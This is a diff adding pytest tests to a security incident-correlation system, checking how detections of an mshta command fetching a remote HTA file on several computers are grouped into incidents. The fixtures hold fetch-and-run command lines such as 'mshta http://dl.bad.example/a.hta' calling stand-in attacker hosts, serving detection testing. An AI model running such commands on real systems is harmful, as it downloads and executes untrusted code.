@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from finding_cast import DAY, HOUR, MINUTE, NOW, alerts_of, arrive, detection, incidents_of, watched
 from otasuke.web.incidents.models import Change
 from otasuke.web.incidents.states import State
@@ -17,6 +19,44 @@ def test_an_attack_that_goes_on_to_the_next_computer_stays_one_incident(companie
     arrive(detection("minori", "r2", by=second, sensor="EIGYO", fields=FLOW, at=NOW + HOUR), at=NOW + HOUR)
 
     assert len(incidents_of(companies.minori)) == 1
+
+
+FETCH = {"CommandLine": "mshta http://dl.bad.example/a.hta"}
+
+
+def test_an_attack_that_fetches_the_same_at_another_computer_is_the_same_incident(companies) -> None:
+    first, second = watched(companies.minori), watched(companies.minori)
+    arrive(detection("minori", "quiet", level="low", by=second, sensor="EIGYO", fields={"Image": "q.exe"}))
+
+    arrive(
+        detection("minori", "r1", by=first, sensor="KEIRI", fields=FETCH),
+        detection("minori", "r1", by=second, sensor="EIGYO", fields=FETCH, at=NOW + MINUTE),
+        at=NOW + MINUTE,
+    )
+
+    (incident,) = incidents_of(companies.minori)
+    with tenant_scope(companies.minori.id):
+        assert incident.belongings.count() == 3
+
+
+@pytest.mark.parametrize(
+    ("fields", "later"),
+    [
+        ({"CommandLine": "mshta http://another.bad.example/a.hta"}, MINUTE),
+        ({"CommandLine": "mshta http://www.microsoft.com/a.hta"}, MINUTE),
+        (FETCH, 4 * DAY),
+    ],
+)
+def test_what_another_computer_fetches_elsewhere_or_much_later_is_another(companies, fields, later) -> None:
+    first, second = watched(companies.minori), watched(companies.minori)
+    shared = " http://www.microsoft.com/b"
+    arrive(
+        detection("minori", "r1", by=first, sensor="KEIRI", fields={"CommandLine": FETCH["CommandLine"] + shared}),
+    )
+
+    arrive(detection("minori", "r1", by=second, sensor="EIGYO", fields=fields, at=NOW + later), at=NOW + later)
+
+    assert len(incidents_of(companies.minori)) == 2
 
 
 def test_two_incidents_that_turn_out_to_be_one_become_one_and_lose_nothing(companies) -> None:
